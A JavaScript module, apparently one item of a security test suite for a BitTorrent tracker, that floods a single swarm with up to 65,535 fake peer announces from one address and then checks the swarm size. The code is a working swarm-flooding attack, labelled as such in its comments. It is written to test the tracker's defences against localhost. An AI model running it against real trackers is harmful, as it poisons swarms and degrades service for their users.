// Item 3: one address (127.0.0.1) adds PEERS peers to one swarm: announces with distinct peer ids
// and ports 1..PEERS, CONCURRENCY keep-alive connections, numwant=0, bounded by FILL_SECONDS.
import http from 'node:http';
import bencode from 'bencode';
import { ms } from './http-client.mjs';

const esc = (buf) => [...buf].map((b) => '%' + b.toString(16).padStart(2, '0')).join('');

/** Seeders + leechers of one torrent from /scrape, or null when unreadable. */
export async function swarmSize(base, infoHash) {
  try {
    const res = await fetch(`${base}/scrape?info_hash=${esc(Buffer.from(infoHash, 'hex'))}`, { signal: AbortSignal.timeout(10_000) });
    const d = bencode.decode(Buffer.from(await res.arrayBuffer()));
    const f = [...Object.values(d.files ?? {})][0] ?? (d.files instanceof Map ? [...d.files.values()][0] : undefined);
    return f ? Number(f.complete) + Number(f.incomplete) : 0;
  } catch {
    return null;
  }
}

/** Sends the announces; { accepted, failures, errors, firstFailure, sent, ms }. */
export async function fill(base, infoHash, { peers = 65_535, concurrency = 32, seconds = 20, timeoutMs = 10_000 } = {}) {
  const agent = new http.Agent({ keepAlive: true, maxSockets: concurrency });
  const h = esc(Buffer.from(infoHash, 'hex'));
  const t0 = performance.now();
  const end = t0 + seconds * 1000;
  let next = 0, accepted = 0, failures = 0, errors = 0, firstFailure = '';
  const one = (i) => new Promise((resolve) => {
    const pid = esc(Buffer.from(`-AB0001-${String(i).padStart(12, '0')}`));
    const req = http.get(`${base}/announce?info_hash=${h}&peer_id=${pid}&port=${i + 1}&uploaded=0&downloaded=0&left=1000&event=started&numwant=0&compact=1`,
      { agent, timeout: timeoutMs }, (res) => {
        const chunks = [];
        res.on('data', (c) => chunks.push(c));
        res.on('end', () => {
          const body = Buffer.concat(chunks).toString('latin1');
          if (body.includes('14:failure reason')) { failures++; firstFailure ||= body.slice(0, 120); } else accepted++;
          resolve();
        });
        res.on('error', () => { errors++; resolve(); });
      });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', () => { errors++; resolve(); });
  });
  await Promise.all(Array.from({ length: concurrency }, async () => {
    while (next < peers && performance.now() < end) await one(next++);
  }));
  agent.destroy();
  return { sent: next, accepted, failures, errors, firstFailure, ms: performance.now() - t0 };
}

/** The attack: fill the swarm, then read its size. */
export async function run(ctx, { peers, seconds }) {
  const r = await fill(ctx.base, ctx.setup.swarmHash, { peers, seconds });
  const held = await swarmSize(ctx.base, ctx.setup.swarmHash);
  const cut = r.sent < peers ? `, stopped after ${seconds} s at ${r.sent} sent` : '';
  return {
    answer: `${r.accepted} accepted, ${r.failures} failure reason, ${r.errors} errors${cut}; swarm holds ${held ?? '?'}`,
    ms: r.ms, message: r.firstFailure.replace(/[^\x20-\x7e]/g, '.'),
    details: `${r.sent} announces from 127.0.0.1 in ${ms(r.ms)}`,
  };
}
